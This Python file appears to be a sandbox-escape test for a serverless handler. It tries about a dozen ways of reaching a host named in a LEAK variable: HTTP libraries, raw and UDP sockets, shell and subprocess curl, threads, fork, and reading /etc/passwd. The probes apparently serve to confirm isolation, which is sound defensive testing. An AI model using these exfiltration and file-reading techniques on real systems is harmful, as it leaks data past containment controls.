import os

from attempts import attempts

LEAK = os.environ["LEAK"]
HOST, PORT = LEAK.split("/")[2].split(":")


def urllib_request():
    import urllib.request

    return urllib.request.urlopen(LEAK, timeout=2).read()


def http_client():
    import http.client

    connection = http.client.HTTPConnection(HOST, int(PORT), timeout=2)
    connection.request("GET", "/leak/http_client")
    return connection.getresponse().status


def sockets():
    import socket

    return socket.create_connection((HOST, int(PORT)), timeout=2).send(b"GET /leak/socket HTTP/1.0\r\n\r\n")


def datagrams():
    import socket

    sent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (HOST, int(PORT)))
    raise OSError(f"{sent} bytes went nowhere")


def urllib3_request():
    import urllib3

    return urllib3.PoolManager(retries=False).request("GET", LEAK, timeout=2).status


def asyncio_connection():
    import asyncio

    async def connect():
        return await asyncio.wait_for(asyncio.open_connection(HOST, int(PORT)), 2)

    return asyncio.run(connect())


def shell():
    status = os.system(f"curl {LEAK}")
    if status == 0:
        return status
    raise OSError(f"status {status}")


def subprocesses():
    import subprocess

    return subprocess.run(["curl", LEAK], capture_output=True, timeout=2).returncode


def fork():
    return os.fork()


def threads():
    import threading

    reached = []
    thread = threading.Thread(target=lambda: reached.append(urllib_request()))
    thread.start()
    thread.join(2)
    if reached:
        return reached
    raise RuntimeError("the thread reached nothing")


def passwords():
    text = open("/etc/passwd").read()
    if "root:" in text:
        return text
    raise OSError("no passwords")


def lambda_handler(event, context):
    ways = [urllib_request, http_client, sockets, datagrams, urllib3_request, asyncio_connection, shell, subprocesses, fork, threads, passwords]
    return attempts(**{way.__name__: way for way in ways})
